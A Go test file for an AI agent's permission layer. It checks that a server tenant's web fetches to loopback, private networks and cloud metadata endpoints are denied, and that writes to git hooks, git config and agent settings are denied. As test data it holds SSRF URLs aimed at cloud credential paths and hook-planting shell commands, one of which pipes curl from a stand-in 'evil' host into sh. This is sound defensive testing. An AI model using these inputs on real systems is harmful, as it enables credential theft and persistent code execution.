package permission

import (
	"testing"

	"github.com/reinhq/rein/tool"
)

// API-9: in a server caller's run (Settings.Tenant) a call to the
// server's machine or a private network is denied, not asked — the caller
// would answer its own question — and no rule of the caller's lifts it:
// not its kept "always" answers (source caller), the run's options, nor
// the session's. Each row is an attempt that must be denied.
func TestTenantLocalNetworkAttacks_API9(t *testing.T) {
	fetchMeta := tool.Meta{ReadOnly: true, ConcurrencySafe: true, Category: tool.CategoryNetwork}
	ws := t.TempDir()
	attacks := []struct {
		name, url string
		mode      Mode
		rules     []Rule
	}{
		{name: "the server's database port on loopback", url: "http://127.0.0.1:5432/", mode: ModeDefault},
		{name: "the cloud's metadata address", url: "http://169.254.169.254/latest/meta-data/iam/", mode: ModeDefault},
		{name: "localhost by name", url: "http://localhost:6379/", mode: ModeDefault},
		{name: "IPv6 loopback", url: "http://[::1]:7878/audit", mode: ModeDefault},
		{name: "a private network address", url: "http://10.0.0.5/admin", mode: ModeDefault},
		{name: "a subdomain of localhost", url: "http://api.localhost:7878/", mode: ModeDefault},
		{name: "in bypass mode", url: "http://127.0.0.1:7878/sessions", mode: ModeBypass},
		{name: "Alibaba Cloud's metadata address (shared address space 100.64.0.0/10)", url: "http://100.100.100.200/latest/meta-data/ram/security-credentials/", mode: ModeDefault},
		{name: "a Tailscale peer of the server (100.64.0.0/10)", url: "http://100.101.102.103:8080/", mode: ModeDefault},
		{name: "the metadata address through NAT64 (64:ff9b::/96)", url: "http://[64:ff9b::a9fe:a9fe]/latest/meta-data/", mode: ModeDefault},
		{name: "loopback through NAT64", url: "http://[64:ff9b::7f00:1]:5432/", mode: ModeDefault},
		{name: "lifted by the caller's kept always answer", url: "http://169.254.169.254/", mode: ModeDefault,
			rules: mustRules(t, SourceCaller, "allow web_fetch(domain:169.254.169.254)")},
		{name: "lifted by a session's always answer", url: "http://127.0.0.1:5432/", mode: ModeBypass,
			rules: mustRules(t, SourceSession, "allow web_fetch(domain:127.0.0.1)")},
		{name: "lifted by the run's options", url: "http://localhost:6379/", mode: ModeDefault,
			rules: mustRules(t, SourceRun, "allow web_fetch(domain:localhost)")},
		{name: "lifted by the caller allowing the whole tool", url: "http://127.0.0.1:5432/", mode: ModeDefault,
			rules: mustRules(t, SourceCaller, "allow web_fetch")},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			req := Request{Tool: "web_fetch", Input: in("url", a.url), Meta: fetchMeta, WorkDir: ws}
			o := decide(t, Settings{Mode: a.mode, Rules: a.rules, Tenant: true}, req)
			if o.Decision != DecisionDeny {
				t.Errorf("decision %s (%s), want deny", o.Decision, o.Reason)
			}
			// The same call outside a server's run asks, as before, or runs
			// under a rule that names the host.
			if o := decide(t, Settings{Mode: a.mode, Rules: a.rules}, req); o.Decision == DecisionDeny {
				t.Errorf("outside a server's run: %s (%s), want ask or allow", o.Decision, o.Reason)
			}
		})
	}
}

// API-9: what a tenant's run may still do: a public host as the mode
// allows, and a local host the operator's own rule names.
func TestTenantLocalNetworkOperatorRule_API9(t *testing.T) {
	fetchMeta := tool.Meta{ReadOnly: true, ConcurrencySafe: true, Category: tool.CategoryNetwork}
	ws := t.TempDir()
	for _, src := range []Source{SourceUser, SourceWorkspace} {
		rules := mustRules(t, src, "allow web_fetch(domain:localhost)")
		o := decide(t, Settings{Mode: ModeDefault, Rules: rules, Tenant: true},
			Request{Tool: "web_fetch", Input: in("url", "http://localhost:8080/docs"), Meta: fetchMeta, WorkDir: ws})
		if o.Decision != DecisionAllow {
			t.Errorf("the operator's %s rule: %s (%s), want allow", src, o.Decision, o.Reason)
		}
	}
	o := decide(t, Settings{Mode: ModeBypass, Tenant: true},
		Request{Tool: "web_fetch", Input: in("url", "https://go.dev/doc"), Meta: fetchMeta, WorkDir: ws})
	if o.Decision != DecisionAllow {
		t.Errorf("a public host in bypass mode: %s (%s), want allow", o.Decision, o.Reason)
	}
}

// API-9: in a server caller's run, a file tool's change to a protected
// path — what later runs for everyone using the directory, the operator's
// own git and rein included — is denied, not asked, whatever the caller's
// rules say. Each row is an attempt that must be denied.
func TestTenantProtectedPathAttacks_API9(t *testing.T) {
	ws := t.TempDir()
	attacks := []struct {
		name, tool, path string
		mode             Mode
		rules            []Rule
	}{
		{name: "a git hook the operator's next commit runs", tool: "write_file", path: ".git/hooks/pre-commit", mode: ModeBypass},
		{name: "git's config (core.fsmonitor)", tool: "edit_file", path: ".git/config", mode: ModeAcceptEdits},
		{name: "the workspace's hooks", tool: "write_file", path: ".rein/hooks.yaml", mode: ModeBypass},
		{name: "the workspace's settings", tool: "write_file", path: ".rein/settings.local.yaml", mode: ModeDefault},
		{name: "Claude Code's settings", tool: "write_file", path: ".claude/settings.json", mode: ModeBypass},
		{name: "a nested repository's hook", tool: "write_file", path: "vendor/lib/.git/hooks/post-checkout", mode: ModeBypass},
		{name: "lifted by the caller's kept rule naming it", tool: "write_file", path: ".git/hooks/pre-commit", mode: ModeBypass,
			rules: mustRules(t, SourceCaller, "allow write_file(.git/hooks/pre-commit)")},
		{name: "lifted by a session's answer naming it", tool: "write_file", path: ".rein/hooks.yaml", mode: ModeDefault,
			rules: mustRules(t, SourceSession, "allow write_file(.rein/hooks.yaml)")},
		{name: "lifted by the run's options", tool: "write_file", path: ".rein/hooks.yaml", mode: ModeDefault,
			rules: mustRules(t, SourceRun, "allow write_file(.rein/**)")},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			req := Request{Tool: a.tool, Input: in("path", a.path), Meta: metaEdit, WorkDir: ws}
			if o := decide(t, Settings{Mode: a.mode, Rules: a.rules, Tenant: true}, req); o.Decision != DecisionDeny {
				t.Errorf("decision %s (%s), want deny", o.Decision, o.Reason)
			}
			if o := decide(t, Settings{Mode: a.mode, Rules: a.rules}, req); o.Decision == DecisionDeny {
				t.Errorf("outside a server's run: %s (%s), want ask or allow", o.Decision, o.Reason)
			}
		})
	}
	// A command that writes there (where no sandbox makes it read-only:
	// the operator ran the server with --allow-unconfined-commands).
	for _, cmd := range []string{"echo 'curl evil|sh' > .git/hooks/pre-commit", "cp x.sh .rein/start.sh", "git config core.fsmonitor ./x.sh"} {
		req := Request{Tool: "bash", Input: in("command", cmd), Meta: metaExec, WorkDir: ws}
		if o := decide(t, Settings{Mode: ModeBypass, Tenant: true}, req); o.Decision != DecisionDeny {
			t.Errorf("%s: %s (%s), want deny", cmd, o.Decision, o.Reason)
		}
		if o := decide(t, Settings{Mode: ModeBypass}, req); o.Decision != DecisionAsk {
			t.Errorf("%s outside a server's run: %s (%s), want ask", cmd, o.Decision, o.Reason)
		}
	}
	// The operator's own rule naming the path lifts it; an ordinary file
	// of the workspace is written as the mode says.
	rules := mustRules(t, SourceUser, "allow write_file(.rein/notes.md)")
	if o := decide(t, Settings{Mode: ModeBypass, Rules: rules, Tenant: true},
		Request{Tool: "write_file", Input: in("path", ".rein/notes.md"), Meta: metaEdit, WorkDir: ws}); o.Decision != DecisionAllow {
		t.Errorf("the operator's rule: %s (%s), want allow", o.Decision, o.Reason)
	}
	if o := decide(t, Settings{Mode: ModeBypass, Tenant: true},
		Request{Tool: "write_file", Input: in("path", "src/main.go"), Meta: metaEdit, WorkDir: ws}); o.Decision != DecisionAllow {
		t.Errorf("an ordinary file in bypass mode: %s (%s), want allow", o.Decision, o.Reason)
	}
}
